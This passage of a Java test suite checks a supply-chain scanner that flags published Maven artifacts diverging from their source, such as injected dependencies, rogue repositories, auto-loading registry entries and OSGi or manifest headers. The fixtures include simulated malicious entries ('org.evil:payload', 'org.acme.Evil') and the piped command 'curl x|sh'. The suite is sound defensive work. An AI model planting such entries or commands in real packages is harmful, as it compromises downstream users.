        assertEquals(MavenGeneratedFiles.POM_FROM_PROJECT_XML, pom.ruleId());
        // the original coordinates are the conversion's too
        assertEquals(MavenGeneratedFiles.POM_FROM_PROJECT_XML, scanJdbcPom("    <dependency>\n      <groupId>jdbc</groupId>\n"
                + "      <artifactId>jdbc</artifactId>\n      <version>2.0</version>\n    </dependency>\n", JDBC_RELOCATION).ruleId());
        // a relocation to another version of the same artifact (Central's xml-apis 2.0.2 -> 1.0.b2) keeps the original
        Map<String, String> sameArtifact = Map.of("jdbc/jdbc/2.0/jdbc-2.0.pom", "<project><modelVersion>4.0.0</modelVersion>"
                + "<groupId>jdbc</groupId><artifactId>jdbc</artifactId><version>2.0</version><distributionManagement>"
                + "<relocation><version>1.0.b2</version></relocation></distributionManagement></project>\n");
        for (String v : List.of("2.0", "1.0.b2")) {
            assertEquals(MavenGeneratedFiles.POM_FROM_PROJECT_XML, scanJdbcPom("    <dependency>\n      <groupId>jdbc</groupId>\n"
                    + "      <artifactId>jdbc</artifactId>\n      <version>" + v + "</version>\n    </dependency>\n",
                    sameArtifact).ruleId(), v);
        }
    }

    @Test
    void aRelocationTheRegistryDoesNotDeclareOrAnotherVersionOfItsTargetIsANewDependency() throws Exception {
        String stdext = "    <dependency>\n      <groupId>javax.sql</groupId>\n      <artifactId>jdbc-stdext</artifactId>\n"
                + "      <version>2.0</version>\n    </dependency>\n";
        FileDivergence unrelocated = scanJdbcPom(stdext, Map.of());
        assertEquals(MavenGeneratedFiles.POM_NEW_DEPENDENCY, unrelocated.ruleId());
        assertTrue(unrelocated.highRisk());
        FileDivergence otherVersion = scanJdbcPom(stdext.replace("2.0", "2.1"), JDBC_RELOCATION);
        assertEquals(MavenGeneratedFiles.POM_NEW_DEPENDENCY, otherVersion.ruleId());
        assertTrue(otherVersion.highRisk());
    }

    @Test
    void theConversionWritesAMaven1PluginWithoutItsGroupButNotAnotherVersionOrArtifact() throws Exception {
        // commons-logging 1.1: project.xml's maven:maven-xdoc-plugin:1.9.2 became <artifactId>maven-xdoc-plugin</artifactId>
        String projectXml = PROJECT_XML.replace("  </dependencies>", "    <dependency>\n      <groupId>maven</groupId>\n"
                + "      <artifactId>maven-xdoc-plugin</artifactId>\n      <version>1.9.2</version>\n"
                + "      <type>plugin</type>\n    </dependency>\n  </dependencies>");
        String xdoc = "    <plugin><artifactId>maven-xdoc-plugin</artifactId><version>%s</version></plugin>\n  </plugins>";
        FileDivergence pom = scanPom(generatedPom("").replace("  </plugins>", xdoc.formatted("1.9.2")), projectXml);
        assertEquals(MavenGeneratedFiles.POM_FROM_PROJECT_XML, pom.ruleId());
        assertEquals(dev.divergence.compare.Classifier.UNEXPLAINED,
                scanPom(generatedPom("").replace("  </plugins>", xdoc.formatted("1.9.3")), projectXml).ruleId());
        assertEquals(dev.divergence.compare.Classifier.UNEXPLAINED, scanPom(generatedPom("").replace("  </plugins>",
                xdoc.formatted("1.9.2").replace("maven-xdoc-plugin", "maven-xdoc2-plugin")), projectXml).ruleId());
    }

    @Test
    void aGeneratedPomMayNarrowAProjectXmlDependencyToTestScopeButNotWidenIt() throws Exception {
        // commons-io 1.0's project.xml lists junit with no scope; the conversion wrote it with <scope>test</scope>
        String unscoped = PROJECT_XML.replace("      <properties><scope>test</scope></properties>\n", "");
        assertEquals(MavenGeneratedFiles.POM_FROM_PROJECT_XML, scanPom(generatedPom(""), unscoped).ruleId());
        // the other way round: a test dependency of project.xml published as a compile dependency reaches consumers
        FileDivergence widened = scanPom(generatedPom("").replace("<scope>test</scope>", "<scope>compile</scope>"));
        assertEquals(MavenGeneratedFiles.POM_NEW_DEPENDENCY, widened.ruleId());
        assertTrue(widened.highRisk());
        // commons-io 1.1: project.xml comments junit out, the POM has it as a test dependency: visible, not high risk
        String none = PROJECT_XML.replaceAll("(?s)    <dependency>\\s*<groupId>junit</groupId>.*?</dependency>\n", "");
        FileDivergence testOnly = scanPom(generatedPom(""), none);
        assertEquals(FileStatus.PHANTOM, testOnly.status());
        assertEquals(MavenGeneratedFiles.POM_NEW_DEPENDENCY, testOnly.ruleId());
        assertTrue(!testOnly.highRisk());
    }

    @Test
    void aGeneratedPomWithADependencyTheProjectXmlLacksIsHighRisk() throws Exception {
        FileDivergence pom = scanPom(generatedPom("    <dependency>\n      <groupId>org.evil</groupId>\n"
                + "      <artifactId>payload</artifactId>\n      <version>1.0</version>\n    </dependency>\n"));
        assertEquals(FileStatus.PHANTOM, pom.status());
        assertEquals(MavenGeneratedFiles.POM_NEW_DEPENDENCY, pom.ruleId());
        assertTrue(pom.highRisk());
        // a changed version of a declared dependency is not the project.xml's either
        FileDivergence bumped = scanPom(generatedPom("").replace("3.8.1", "4.13"));
        assertEquals(MavenGeneratedFiles.POM_NEW_DEPENDENCY, bumped.ruleId());
    }

    @ParameterizedTest
    @ValueSource(strings = {"relocation", "parent", "managed", "profile", "classifier"})
    void aGeneratedPomMakingConsumersResolveWhatTheProjectXmlDoesNotIsHighRisk(String change) throws Exception {
        String pom = switch (change) {
            case "relocation" -> generatedPom("").replace("<status>converted</status>",
                    "<status>converted</status><relocation><groupId>io.evil</groupId></relocation>");
            case "parent" -> generatedPom("").replace("  <groupId>org.acme</groupId>\n", "  <parent><groupId>io.evil"
                    + "</groupId><artifactId>base</artifactId><version>1</version></parent>\n  <groupId>org.acme</groupId>\n");
            case "managed" -> generatedPom("").replace("  <dependencies>\n", "  <dependencyManagement><dependencies>"
                    + "<dependency><groupId>io.evil</groupId><artifactId>bom</artifactId><version>1</version><type>pom</type>"
                    + "<scope>import</scope></dependency></dependencies></dependencyManagement>\n  <dependencies>\n");
            case "profile" -> generatedPom("").replace("  <build>", "  <profiles><profile><id>p</id><dependencies>"
                    + "<dependency><groupId>junit</groupId><artifactId>junit</artifactId><version>3.8.1</version>"
                    + "</dependency></dependencies></profile></profiles>\n  <build>");
            // project.xml's junit without a scope (compile), published as another artifact of it
            default -> generatedPom("").replace("      <scope>test</scope>\n", "")
                    .replace("<version>3.8.1</version>", "<version>3.8.1</version><classifier>natives</classifier>");
        };
        String unscoped = PROJECT_XML.replace("      <properties><scope>test</scope></properties>\n", "");
        if (change.equals("classifier")) {
            // without the classifier the same POM is the conversion's
            assertEquals(MavenGeneratedFiles.POM_FROM_PROJECT_XML, scanPom(pom.replace("<classifier>natives</classifier>",
                    ""), unscoped).ruleId());
        }
        FileDivergence row = scanPom(pom, change.equals("classifier") ? unscoped : PROJECT_XML);
        assertEquals(MavenGeneratedFiles.POM_NEW_DEPENDENCY, row.ruleId(), change);
        assertTrue(row.highRisk(), change);
    }

    @Test
    void aParentTheSourcesOwnPomXmlDeclaresBesideTheProjectXmlIsNotANewDependency() throws Exception {
        // commons-io 1.3.2 kept a pom.xml (parent commons-parent:3) beside its project.xml; the published POM, the
        // Maven 1 conversion with that parent, is not a redirect of consumers. Another parent still is.
        String parent = "  <parent><groupId>org.apache.commons</groupId><artifactId>commons-parent</artifactId>"
                + "<version>3</version></parent>\n";
        String published = generatedPom("").replace("  <groupId>org.acme</groupId>\n", parent + "  <groupId>org.acme</groupId>\n");
        String sourcePom = "<project xmlns=\"http://maven.apache.org/POM/4.0.0\">\n" + parent
                + "  <modelVersion>4.0.0</modelVersion>\n  <groupId>org.acme</groupId>\n  <artifactId>acme-core</artifactId>\n"
                + "  <version>1.2</version>\n</project>\n";
        FileDivergence same = scanPom(published, PROJECT_XML, sourcePom);
        assertFalse(same.highRisk(), same.toString());
        FileDivergence other = scanPom(published.replace("<version>3</version></parent>", "<version>4</version></parent>"),
                PROJECT_XML, sourcePom);
        assertTrue(other.highRisk(), other.toString());
    }

    @Test
    void aGeneratedPomWithRepositoriesOrPluginsIsNotExplained() throws Exception {
        String withRepo = generatedPom("").replace("  <build>",
                "  <repositories><repository><id>x</id><url>https://repo.evil.example</url></repository></repositories>\n  <build>");
        FileDivergence pom = scanPom(withRepo);
        assertEquals(FileStatus.PHANTOM, pom.status());
        // a repository Maven 3 searches for the dependencies' own dependencies: not the conversion's, HIGH_RISK
        assertEquals(MavenGeneratedFiles.POM_NEW_REPOSITORY, pom.ruleId());
        assertTrue(pom.highRisk());
        String disabled = generatedPom("").replace("  <build>", "  <repositories><repository><id>x</id>"
                + "<url>https://repo.evil.example</url><releases><enabled>false</enabled></releases><snapshots><enabled>"
                + "false</enabled></snapshots></repository></repositories>\n  <build>");
        assertEquals(dev.divergence.compare.Classifier.UNEXPLAINED, scanPom(disabled).ruleId());
        assertFalse(scanPom(disabled).highRisk());
        String withPlugin = generatedPom("").replace("  </plugins>", "    <plugin><groupId>org.evil</groupId>"
                + "<artifactId>weaver-maven-plugin</artifactId><version>1.0</version></plugin>\n  </plugins>");
        assertEquals(dev.divergence.compare.Classifier.UNEXPLAINED, scanPom(withPlugin).ruleId());
    }

    @Test
    void anUntaggedMaven1ReleaseIsFoundWhereProjectXmlDeclaresItsVersion() throws Exception {
        SortedMap<String, byte[]> beta = files("project.xml", PROJECT_XML.replace("1.2", "1.0-beta-2"),
                "src/java/org/acme/Widget.java", "package org.acme;\npublic class Widget {}\n",
                "src/java/org/acme/Factory.java", "package org.acme;\npublic class Factory {}\n");
        SortedMap<String, byte[]> later = files("project.xml", PROJECT_XML.replace("1.2", "1.0"),
                "src/java/org/acme/Widget.java", "package org.acme;\npublic class Widget {}\n");
        String betaCommit;
        try (GitHistoryBuilder git = GitHistoryBuilder.init(dir.resolve("repo"))) {
            betaCommit = git.commit(beta, "1.0-beta-2", Instant.parse("2003-01-01T00:00:00Z"));
            git.commit(later, "removed Factory", Instant.parse("2003-06-01T00:00:00Z"));
            git.tag("v1.0", true);
        }
        try (LocalMaven repo = new LocalMaven(dir.resolve("m2"), "org.acme", "acme-core")) {
            repo.metadata(List.of("1.0-beta-2"));
            repo.file("1.0-beta-2", ".jar", LocalMaven.jar(Map.of("org/acme/Widget.class", CLASS,
                    "org/acme/Factory.class", CLASS)), null);
            MavenSupport support = new MavenSupport(repo.baseUrl(), ScanWorld.fetcher());
            Release r = support.registry().releases(PackageId.parse("pkg:maven/org.acme/acme-core")).get(0);
            ReleaseReport report = ScanWorld.scanner(support, dir).scan(r, Optional.of(dir.resolve("repo").toString()));
            assertEquals(RefMethod.MANIFEST_HISTORY, report.ref().method());
            assertEquals(betaCommit, report.ref().commit().orElseThrow());
            assertEquals(MavenGeneratedFiles.CLASS_FROM_SOURCE, row(artifact(report, ".jar"), "org/acme/Factory.class").ruleId());
        }
    }

    private static final String COMMITTED_POM = "<?xml version=\"1.0\"?>\n<!-- licence header -->\n"
            + "<project xmlns=\"http://maven.apache.org/POM/4.0.0\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\""
            + " xsi:schemaLocation=\"http://maven.apache.org/POM/4.0.0 http://maven.apache.org/maven-v4_0_0.xsd\">\n"
            + "  <modelVersion>4.0.0</modelVersion>\n  <groupId>org.acme</groupId>\n  <artifactId>acme-core</artifactId>\n"
            + "  <version>1.3.2</version>\n  <description>\n      Widgets.\n  </description>\n"
            + "  <dependencies>\n    <dependency><groupId>a</groupId><artifactId>a</artifactId><version>1</version></dependency>\n"
            + "    <dependency><groupId>b</groupId><artifactId>b</artifactId><version>2</version></dependency>\n"
            + "  </dependencies>\n</project>\n";
    /** What Maven 2.0's deploy wrote: no comment or namespace, fields in model order, text trimmed (commons-io 1.3.2). */
    private static final String DEPLOYED_POM = "<?xml version=\"1.0\"?><project>\n  <modelVersion>4.0.0</modelVersion>\n"
            + "  <groupId>org.acme</groupId>\n  <artifactId>acme-core</artifactId>\n  <description>Widgets.</description>\n"
            + "  <version>1.3.2</version>\n  <dependencies>\n"
            + "    <dependency><artifactId>a</artifactId><groupId>a</groupId><version>1</version></dependency>\n"
            + "    <dependency><artifactId>b</artifactId><groupId>b</groupId><version>2</version></dependency>\n"
            + "  </dependencies>\n</project>\n";

    private FileDivergence scanDeployedPom(String published) throws Exception {
        Path world = java.nio.file.Files.createTempDirectory(dir, "world");
        try (GitHistoryBuilder git = GitHistoryBuilder.init(world.resolve("repo"))) {
            git.commit(files("pom.xml", COMMITTED_POM), "1.3.2", Instant.parse("2007-01-01T00:00:00Z"));
            git.tag("v1.3.2", true);
        }
        try (LocalMaven repo = new LocalMaven(world.resolve("m2"), "org.acme", "acme-core")) {
            repo.metadata(List.of("1.3.2"));
            repo.file("1.3.2", ".pom", utf8(published), null);
            MavenSupport support = new MavenSupport(repo.baseUrl(), ScanWorld.fetcher());
            Release r = support.registry().releases(PackageId.parse("pkg:maven/org.acme/acme-core")).get(0);
            return row(artifact(ScanWorld.scanner(support, world).scan(r, Optional.of(world.resolve("repo").toString())),
                    ".pom"), "pom.xml");
        }
    }

    @Test
    void aPomMaven2RewroteWhenDeployingIsTheSameModelAndAnyChangedValueIsNot() throws Exception {
        FileDivergence same = scanDeployedPom(DEPLOYED_POM);
        assertEquals(FileStatus.MATCH_NORMALIZED, same.status());
        assertEquals(MavenGeneratedFiles.POM_SAME_MODEL, same.ruleId());
        // the deploying tool's status is not the project's
        String deployed = DEPLOYED_POM.replace("</project>",
                "  <distributionManagement><status>deployed</status></distributionManagement>\n</project>");
        assertEquals(MavenGeneratedFiles.POM_SAME_MODEL, scanDeployedPom(deployed).ruleId());
        String otherStatus = DEPLOYED_POM.replace("</project>",
                "  <distributionManagement><status>curl x|sh</status></distributionManagement>\n</project>");
        assertEquals(FileStatus.MODIFIED, scanDeployedPom(otherStatus).status());
        String swapped = DEPLOYED_POM.replace("<artifactId>a</artifactId><groupId>a</groupId><version>1</version>", "X")
                .replace("<artifactId>b</artifactId><groupId>b</groupId><version>2</version>",
                        "<artifactId>a</artifactId><groupId>a</groupId><version>1</version>")
                .replace("X", "<artifactId>b</artifactId><groupId>b</groupId><version>2</version>");
        String added = DEPLOYED_POM.replace("  </dependencies>", "    <dependency><groupId>evil</groupId>"
                + "<artifactId>payload</artifactId><version>1</version></dependency>\n  </dependencies>");
        String appended = DEPLOYED_POM.replace("<dependencies>", "<dependencies combine.children=\"append\">");
        for (String p : List.of(swapped, appended)) {
            FileDivergence f = scanDeployedPom(p);
            assertEquals(FileStatus.MODIFIED, f.status(), p);
            assertEquals(dev.divergence.compare.Classifier.UNEXPLAINED, f.ruleId(), p);
        }
        // a dependency the source never declares is what consumers would resolve: HIGH_RISK, as in npm and PyPI
        FileDivergence withPayload = scanDeployedPom(added);
        assertEquals(FileStatus.MODIFIED, withPayload.status());
        assertEquals(MavenGeneratedFiles.POM_NEW_DEPENDENCY, withPayload.ruleId());
        assertTrue(withPayload.highRisk());
        // another version of a dependency consumers resolve, declared by no commit: how a malicious release is pulled in
        FileDivergence bumped = scanDeployedPom(DEPLOYED_POM.replace("<version>2</version>", "<version>3</version>"));
        assertEquals(FileStatus.MODIFIED, bumped.status());
        assertEquals(MavenGeneratedFiles.POM_DEPENDENCY_VERSION, bumped.ruleId());
        assertEquals("dependency versions the source's POM does not declare: [b:b::jar 3 (source: 2)]",
                bumped.detail().orElseThrow());
        assertTrue(bumped.highRisk());
    }

    /** Auto-loading registries: the path in a jar, the source's file, the published file adding org.acme.Evil. */
    private static final String PLEXUS = "<component-set><components>\n  <component><role>org.acme.Greeter</role>"
            + "<implementation>%s</implementation></component>%s\n</components></component-set>\n";

    private static final Map<String, String[]> REGISTRIES = Map.of(
            "spring.factories", new String[] {"META-INF/spring.factories",
                    "org.springframework.context.ApplicationListener=org.acme.Greeter\n",
                    "org.springframework.context.ApplicationListener=org.acme.Greeter,\\\n  org.acme.Evil\n"},
            "auto-configuration imports", new String[] {
                    "META-INF/spring/org.springframework.boot.autoconfigure.AutoConfiguration.imports",
                    "org.acme.Greeter\n", "org.acme.Greeter\norg.acme.Evil\n"},
            "aot.factories", new String[] {"META-INF/spring/aot.factories",
                    "org.springframework.aot.hint.RuntimeHintsRegistrar=org.acme.Greeter\n",
                    "org.springframework.aot.hint.RuntimeHintsRegistrar=org.acme.Greeter\n"
                            + "org.springframework.beans.factory.aot.BeanRegistrationAotProcessor=org.acme.Evil\n"},
            "spring.handlers", new String[] {"META-INF/spring.handlers",
                    "http\\://acme.org/schema/greeter=org.acme.Greeter\n",
                    "http\\://acme.org/schema/greeter=org.acme.Greeter\nhttp\\://acme.org/schema/x=org.acme.Evil\n"},
            "groovy extension module", new String[] {"META-INF/groovy/org.codehaus.groovy.runtime.ExtensionModule",
                    "moduleName=acme\nmoduleVersion=3.0.0\nextensionClasses=org.acme.Greeter\n",
                    "moduleName=acme\nmoduleVersion=3.0.0\nextensionClasses=org.acme.Greeter\nstaticExtensionClasses=org.acme.Evil\n"},
            // red team round 4 (case10): Maven instantiates a plugin's or build extension's listed components
            "sisu index", new String[] {"META-INF/sisu/javax.inject.Named", "org.acme.Greeter\n",
                    "org.acme.Greeter\norg.acme.Evil\n"},
            "plexus components", new String[] {"META-INF/plexus/components.xml", PLEXUS.formatted("org.acme.Greeter", ""),
                    PLEXUS.formatted("org.acme.Greeter", "<component><role>org.apache.maven.AbstractMavenLifecycleParticipant"
                            + "</role><implementation>org.acme.Evil</implementation></component>")});

    private ArtifactReport scanRegistry(String path, String source, String published, String pom) throws Exception {
        SortedMap<String, byte[]> tree = greeterTree("org/acme/Greeter.java", GREETER, "src/main/resources/" + path, source);
        if (pom != null) {
            tree = dev.divergence.fixtures.Trees.with(tree, "pom.xml", pom);
        }
        Map<String, byte[]> jar = new LinkedHashMap<>(LocalMaven.javac(Map.of("org/acme/Greeter.java", GREETER), "--release", "11"));
        jar.put(path, utf8(published));
        return artifact(scanJar(tree, "3.0.0", jar), ".jar");
    }

    @ParameterizedTest
    @ValueSource(strings = {"spring.factories", "auto-configuration imports", "aot.factories", "spring.handlers",
            "groovy extension module", "sisu index", "plexus components"})
    void aClassAnAutoLoadingRegistryNamesThatTheSourcesFileDoesNotIsHighRisk(String registry) throws Exception {
        String[] r = REGISTRIES.get(registry);
        ArtifactReport a = scanRegistry(r[0], r[1], r[2], null);
        FileDivergence f = row(a, r[0]);
        assertEquals(FileStatus.MODIFIED, f.status(), registry);
        assertEquals(MavenGeneratedFiles.AUTO_LOAD_NEW_ENTRY, f.ruleId(), registry);
        assertTrue(f.detail().orElseThrow().contains("org.acme.Evil"), f.detail().toString());
        assertTrue(f.riskFlags().contains(dev.divergence.model.RiskFlag.AUTO_EXEC));
        assertEquals(List.of(r[0]), a.highRiskPaths());
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    @Test
    void aRegistryWithNoSourceFileNamingAClassIsHighRisk() throws Exception {
        Map<String, byte[]> jar = new LinkedHashMap<>(LocalMaven.javac(Map.of("org/acme/Greeter.java", GREETER), "--release", "11"));
        jar.put("META-INF/spring.handlers", utf8("http\\://acme.org/schema=org.acme.Greeter\n"));
        ArtifactReport a = artifact(scanJar(greeterTree("org/acme/Greeter.java", GREETER), "3.0.0", jar), ".jar");
        FileDivergence f = row(a, "META-INF/spring.handlers");
        assertEquals(FileStatus.PHANTOM, f.status());
        assertEquals(MavenGeneratedFiles.AUTO_LOAD_NEW_ENTRY, f.ruleId());
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    private static final String FILTERING_POM = "<project><groupId>org.acme</groupId><artifactId>acme-core</artifactId>"
            + "<version>3.0.0</version><build><resources><resource><directory>src/main/resources</directory>"
            + "<filtering>true</filtering></resource></resources></build></project>\n";

    @Test
    void aClassFilledIntoAFilteredRegistrysPlaceholderIsNotExplainedByResourceFiltering() throws Exception {
        // maven-resources-plugin fills ${x} with letters, digits and dots: a class name fits that slack exactly
        String path = "META-INF/spring/org.springframework.boot.autoconfigure.AutoConfiguration.imports";
        ArtifactReport a = scanRegistry(path, "org.acme.Greeter\n${extra.configuration}\n",
                "org.acme.Greeter\norg.acme.Evil\n", FILTERING_POM);
        FileDivergence f = row(a, path);
        assertEquals(FileStatus.MODIFIED, f.status());
        assertEquals(MavenGeneratedFiles.AUTO_LOAD_NEW_ENTRY, f.ruleId());
        assertTrue(f.highRisk());
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    @Test
    void theSourcesRegistryEntriesSpelledDifferentlyAreExplained() throws Exception {
        ArtifactReport factories = scanRegistry("META-INF/spring.factories",
                "# listeners\norg.springframework.context.ApplicationListener=org.acme.Greeter,org.acme.Other\n",
                "org.springframework.context.ApplicationListener=\\\r\n  org.acme.Other,\\\r\n  org.acme.Greeter\r\n", null);
        FileDivergence f = row(factories, "META-INF/spring.factories");
        assertEquals(FileStatus.MATCH_NORMALIZED, f.status());
        assertEquals(MavenGeneratedFiles.AUTO_LOAD_SAME_ENTRIES, f.ruleId());
        assertEquals(Verdict.EXPLAINED, factories.verdict());
    }

    @Test
    void thePlexusComponentsOfTheSourcesDescriptorSpelledDifferentlyAreExplained() throws Exception {
        ArtifactReport plexus = scanRegistry("META-INF/plexus/components.xml", PLEXUS.formatted("org.acme.Greeter", ""),
                "<?xml version=\"1.0\"?>\r\n" + PLEXUS.formatted(" org.acme.Greeter ", "<!-- generated -->"), null);
        assertEquals(MavenGeneratedFiles.AUTO_LOAD_SAME_ENTRIES, row(plexus, "META-INF/plexus/components.xml").ruleId());
    }

    @Test
    void aFilteredModuleVersionBesideTheSourcesClassesIsLeftToResourceFiltering() throws Exception {
        String groovy = "META-INF/groovy/org.codehaus.groovy.runtime.ExtensionModule";
        ArtifactReport module = scanRegistry(groovy, "moduleName=acme\nmoduleVersion=${project.version}\n"
                + "extensionClasses=org.acme.Greeter\n", "moduleName=acme\nmoduleVersion=3.0.0\n"
                + "extensionClasses=org.acme.Greeter\n", FILTERING_POM);
        assertEquals(MavenGeneratedFiles.RESOURCE_FILTERED, row(module, groovy).ruleId());
        assertEquals(Verdict.EXPLAINED, module.verdict());
    }

    @ParameterizedTest
    @ValueSource(strings = {"Bundle-Activator: org.acme.Evil", "Start-Class: org.acme.Evil", "Boot-Class-Path: evil.jar",
            // red team round 4 (case3, case3b): OSGi headers that start or wire in code
            "Service-Component: OSGI-INF/component.xml", "Service-Component: OSGI-INF/org.acme.Widget.xml",
            "DynamicImport-Package: *", "Fragment-Host: org.acme.host", "Bundle-ClassPath: .,lib/evil.jar",
            "Require-Bundle: org.evil"})
    void aManifestAttributeNamingCodeToLoadThatNoBuildFileDeclaresIsHighRisk(String attribute) throws Exception {
        Map<String, byte[]> jar = new LinkedHashMap<>();
        jar.put("META-INF/MANIFEST.MF", utf8("Manifest-Version: 1.0\nMain-Class: org.acme.Widget\n" + attribute + "\n"));
        jar.put("org/acme/Widget.class", CLASS);
        ArtifactReport a = artifact(scanJar(agentTree(), "3.0.0", jar), ".jar");
        FileDivergence m = row(a, "META-INF/MANIFEST.MF");
        assertEquals(FileStatus.PHANTOM, m.status(), attribute);
        assertEquals(MavenGeneratedFiles.MANIFEST_EXECUTION, m.ruleId(), attribute);
        assertEquals("manifest entries no build file declares: [" + attribute + "]", m.detail().orElseThrow());
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    @Test
    void aComponentDescriptorBndWritesForAnAnnotatedSourceAndTheBundleItselfAsClassPathAreGenerated() throws Exception {
        SortedMap<String, byte[]> tree = dev.divergence.fixtures.Trees.with(agentTree(), "src/main/java/org/acme/Widget.java",
                "package org.acme;\nimport org.osgi.service.component.annotations.Component;\n"
                        + "@Component(immediate = true)\npublic class Widget implements Plugin {\n  class Part {}\n}\n");
        Map<String, byte[]> jar = new LinkedHashMap<>();
        jar.put("META-INF/MANIFEST.MF", utf8("Manifest-Version: 1.0\nMain-Class: org.acme.Widget\n"
                + "Service-Component: OSGI-INF/org.acme.Widget.xml\nBundle-ClassPath: .\n"));
        jar.put("org/acme/Widget.class", CLASS);
        ArtifactReport a = artifact(scanJar(tree, "3.0.0", jar), ".jar");
        assertEquals(MavenGeneratedFiles.MANIFEST, row(a, "META-INF/MANIFEST.MF").ruleId());
        // a component of a class no source annotates is not bnd's
        jar.put("META-INF/MANIFEST.MF", utf8("Manifest-Version: 1.0\nMain-Class: org.acme.Widget\n"
                + "Service-Component: OSGI-INF/org.acme.Widget.xml,OSGI-INF/org.acme.Util.xml\n"));
        FileDivergence m = row(artifact(scanPublished(java.nio.file.Files.createTempDirectory(dir, "other"), tree, "3.0.0",
                Map.of(".pom", tree.get("pom.xml"), ".jar", LocalMaven.jar(jar))), ".jar"), "META-INF/MANIFEST.MF");
        assertEquals(MavenGeneratedFiles.MANIFEST_EXECUTION, m.ruleId());
        assertTrue(m.highRisk());
    }

    /** Red team round 4 (case3): a component descriptor in no commit, named by the manifest, is an auto-load entry. */
    @ParameterizedTest
    @ValueSource(strings = {"org.acme.Widget", "org.acme.Util"})
    void aComponentDescriptorInNoCommitIsBndsOnlyForAnAnnotatedClass(String implementation) throws Exception {
        SortedMap<String, byte[]> tree = dev.divergence.fixtures.Trees.with(agentTree(), "src/main/java/org/acme/Widget.java",
                "package org.acme;\n@org.osgi.service.component.annotations.Component\n"
                        + "public class Widget implements Plugin {\n  class Part {}\n}\n");
        tree = dev.divergence.fixtures.Trees.with(tree, "bnd.bnd", "Service-Component: OSGI-INF/*.xml\n");
        Map<String, byte[]> jar = new LinkedHashMap<>();
        jar.put("META-INF/MANIFEST.MF", utf8("Manifest-Version: 1.0\nMain-Class: org.acme.Widget\n"
                + "Service-Component: OSGI-INF/*.xml\n"));
        jar.put("org/acme/Widget.class", CLASS);
        jar.put("OSGI-INF/component.xml", utf8("<?xml version=\"1.0\"?>\n<scr:component xmlns:scr=\"http://www.osgi.org/xmlns/"
                + "scr/v1.3.0\" name=\"c\" immediate=\"true\">\n  <implementation class=\"" + implementation + "\"/>\n"
                + "</scr:component>\n"));
        ArtifactReport a = artifact(scanJar(tree, "3.0.0", jar), ".jar");
        assertEquals(MavenGeneratedFiles.MANIFEST, row(a, "META-INF/MANIFEST.MF").ruleId());
        FileDivergence c = row(a, "OSGI-INF/component.xml");
        if (implementation.equals("org.acme.Widget")) {
            assertEquals(FileStatus.GENERATED, c.status());
            assertEquals(MavenGeneratedFiles.OSGI_COMPONENT_FROM_ANNOTATION, c.ruleId());
            assertFalse(c.highRisk());
        } else {
            assertEquals(FileStatus.PHANTOM, c.status());
            assertEquals(MavenGeneratedFiles.AUTO_LOAD_NEW_ENTRY, c.ruleId());
            assertTrue(c.highRisk());
            assertEquals(Verdict.HIGH_RISK, a.verdict());
        }
    }

    /**
     * Red team round 4 (case5): a manifest template or build file of an integration test project, Gradle test fixtures
     * or a JMH benchmark configures that project, not the published jar.
     */
    @ParameterizedTest
    @ValueSource(strings = {"src/it/launcher/src/main/resources/META-INF/MANIFEST.MF", "src/testFixtures/resources/META-INF/MANIFEST.MF",
            "src/integrationTest/resources/META-INF/MANIFEST.MF", "src/jmh/resources/META-INF/MANIFEST.MF",
            "src/it/launcher/pom.xml", "integration-tests/pom.xml"})
    void aTestProjectsManifestOrBuildFileExplainsNoExecutionEntryOfTheJar(String where) throws Exception {
        String content = where.endsWith("pom.xml") ? "<project><artifactId>launcher</artifactId><build><plugins><plugin>"
                + "<artifactId>maven-jar-plugin</artifactId><configuration><archive><manifestEntries>"
                + "<Launcher-Agent-Class>itest.Boot</Launcher-Agent-Class></manifestEntries></archive></configuration>"
                + "</plugin></plugins></build></project>\n" : "Manifest-Version: 1.0\nLauncher-Agent-Class: itest.Boot\n";
        SortedMap<String, byte[]> tree = dev.divergence.fixtures.Trees.with(agentTree(), where, content);
        Map<String, byte[]> jar = new LinkedHashMap<>();
        jar.put("META-INF/MANIFEST.MF", utf8("Manifest-Version: 1.0\nMain-Class: org.acme.Widget\n"
                + "Launcher-Agent-Class: itest.Boot\n"));
        jar.put("org/acme/Widget.class", CLASS);
        ArtifactReport a = artifact(scanJar(tree, "3.0.0", jar), ".jar");
        FileDivergence m = row(a, "META-INF/MANIFEST.MF");
        assertEquals(MavenGeneratedFiles.MANIFEST_EXECUTION, m.ruleId(), where);
        assertTrue(m.highRisk(), where);
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    @Test
    void theMainBuildsManifestTemplateStillExplainsItsEntries() throws Exception {
        SortedMap<String, byte[]> tree = dev.divergence.fixtures.Trees.with(agentTree(),
                "src/main/resources/META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nLauncher-Agent-Class: org.acme.Widget\n");
        Map<String, byte[]> jar = new LinkedHashMap<>();
        jar.put("META-INF/MANIFEST.MF", utf8("Manifest-Version: 1.0\nMain-Class: org.acme.Widget\n"
                + "Launcher-Agent-Class: org.acme.Widget\n"));
        jar.put("org/acme/Widget.class", CLASS);
        ArtifactReport a = artifact(scanJar(tree, "3.0.0", jar), ".jar");
        assertEquals(MavenGeneratedFiles.MANIFEST, row(a, "META-INF/MANIFEST.MF").ruleId());
    }

    /**
     * slf4j 1.2: the tracked template ends in a continuation line without its newline. The JVM drops such a last line
     * from a jar's manifest, but the archiver that copies the template keeps it, so the template names
     * {@code Bundle-ClassPath: .,target/classes/}; another value is still not the template's.
     */
    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {".,target/classes/|true", ".,lib/evil.jar|false", ".,|false"})
    void aTemplatesLastLineWithoutNewlineIsReadAsTheArchiverReadsIt(String classPath, boolean templates) throws Exception {
        SortedMap<String, byte[]> tree = dev.divergence.fixtures.Trees.with(agentTree(),
                "src/main/resources/META-INF/MANIFEST.MF", "Bundle-ManifestVersion: 2\r\nBundle-ClassPath: .,\r\n target/classes/");
        Map<String, byte[]> jar = new LinkedHashMap<>();
        jar.put("META-INF/MANIFEST.MF", utf8("Manifest-Version: 1.0\r\nMain-Class: org.acme.Widget\r\n"
                + "Bundle-ManifestVersion: 2\r\nBundle-ClassPath: " + classPath + "\r\n\r\n"));
        jar.put("org/acme/Widget.class", CLASS);
        FileDivergence m = row(artifact(scanJar(tree, "3.0.0", jar), ".jar"), "META-INF/MANIFEST.MF");
